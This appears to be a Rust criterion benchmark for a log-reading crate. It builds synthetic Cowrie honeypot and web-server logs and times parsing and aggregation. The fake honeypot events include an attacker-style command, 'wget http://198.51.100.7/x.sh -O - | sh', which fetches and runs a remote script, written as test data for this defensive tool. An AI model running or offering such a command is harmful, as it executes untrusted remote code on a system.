//! How fast inputs are read: `cargo bench -p ipcascade-input`.
//!
//! Measured on one of two busy cores, so a lower bound: Cowrie's log 192 MiB/s (660,000 events/s), a web server's log
//! as text 87 MiB/s.

#![expect(clippy::expect_used, reason = "a bench that fails should stop")]

use std::hint::black_box;
use std::iter;
use std::pin::pin;
use std::sync::Arc;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use futures::stream::{self, StreamExt as _};
use ipcascade_input::{
    Aggregator, Block, BlockCursor, Input, InputOptions, Limits, Parser, RecordForm, RecordReader,
    Sightings,
};
use tokio::runtime::Builder;

const EVENTS: usize = 200_000;

/// A log as Cowrie writes it: sessions of ten events, from 5,000 addresses.
fn cowrie_log() -> String {
    let mut log = String::new();
    for event in 0..EVENTS {
        let (session, step) = (event / 10, event % 10);
        let address = session % 5000;
        let (name, more) = match step {
            0 => (
                "session.connect",
                r#""src_port":51234,"dst_ip":"10.0.0.2","dst_port":2222,"protocol":"ssh","#,
            ),
            1 => ("client.version", r#""version":"SSH-2.0-libssh2_1.4.3","#),
            9 => ("session.closed", r#""duration":"12.3","#),
            5..=8 => (
                "command.input",
                r#""input":"cd /tmp; wget http://198.51.100.7/x.sh -O - | sh; echo \"{\\\"src_ip\\\":1}\"","#,
            ),
            _ => (
                "login.failed",
                r#""username":"root","password":"hunter2 \" \\ {}","#,
            ),
        };
        log.push_str(&format!(
            r#"{{"eventid":"cowrie.{name}",{more}"message":"something that happened in the honeypot","sensor":"sensor-01","uuid":"2f5a1f30-7a41-11ee-b962-0242ac120002","timestamp":"2026-01-02T{:02}:{:02}:{:02}.{:06}Z","src_ip":"203.{}.{}.7","session":"{session:012x}"}}"#,
            event / 3600 % 24,
            event / 60 % 60,
            event % 60,
            event,
            address / 250,
            address % 250,
        ));
        log.push('\n');
    }
    log
}

/// A log of a web server.
fn web_log() -> String {
    let mut log = String::new();
    for line in 0..EVENTS {
        log.push_str(&format!(
            r#"203.{}.{}.7 - - [10/Oct/2025:13:55:36 +0000] "GET /index.php?id={line} HTTP/1.1" 200 2326 "-" "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0 Safari/537.36""#,
            line / 250 % 250,
            line % 250,
        ));
        log.push('\n');
    }
    log
}

fn open(text: &'static str) -> RecordReader<'static> {
    let options = InputOptions::default();
    RecordReader::new(
        "bench",
        Input::whole(text.as_bytes(), options.now),
        &options,
    )
    .expect("a log is readable")
}

fn read(text: &'static str) -> usize {
    let mut reader = open(text);
    let mut addresses = 0;
    while let Some(record) = reader.next().expect("memory does not fail") {
        addresses += black_box(record.addresses).count();
    }
    addresses
}

/// Sums up the blocks of a log on two cores, and aggregates them in order, as `enrich` does.
async fn aggregate(text: &'static str) -> usize {
    let mut reader = open(text);
    let form = Arc::clone(reader.form());
    let blocks = iter::from_fn(move || reader.next_block().expect("memory does not fail"));
    let sums = stream::iter(blocks)
        .map(|block| {
            let form = Arc::clone(&form);
            tokio::spawn(async move { sum_up(&form, &block) })
        })
        .buffered(4);
    let mut sums = pin!(sums);
    let mut aggregator = Aggregator::new(Limits::default());
    let mut updates = 0;
    while let Some(sightings) = sums.next().await {
        aggregator.add(sightings.expect("no panic"));
        while let Some(chunk) = aggregator.pop() {
            updates += black_box(chunk).updates.len();
        }
    }
    aggregator.finish();
    updates
}

fn sum_up(form: &Arc<RecordForm>, block: &Block) -> Sightings {
    let mut sightings = Sightings::default();
    let (mut parser, mut cursor) = (Parser::new(form), BlockCursor::default());
    while let Some(record) = parser.next(block, &mut cursor) {
        for address in record.addresses {
            sightings.add(address, record.time, record.session.as_ref());
        }
    }
    sightings
}

fn benches(criterion: &mut Criterion) {
    let mut group = criterion.benchmark_group("input");
    group.sample_size(10);
    let cowrie: &str = cowrie_log().leak();
    for (name, text) in [("cowrie", cowrie), ("text", web_log().leak())] {
        group.throughput(Throughput::Bytes(text.len() as u64));
        group.bench_function(format!("read {name}"), |bencher| {
            bencher.iter(|| assert!(read(text) >= EVENTS));
        });
    }
    let runtime = Builder::new_multi_thread()
        .worker_threads(2)
        .build()
        .expect("a runtime");
    group.throughput(Throughput::Bytes(cowrie.len() as u64));
    group.bench_function("read and aggregate cowrie on two cores", |bencher| {
        bencher.iter(|| runtime.block_on(aggregate(cowrie)));
    });
    group.finish();
}

criterion_group!(input, benches);
criterion_main!(input);
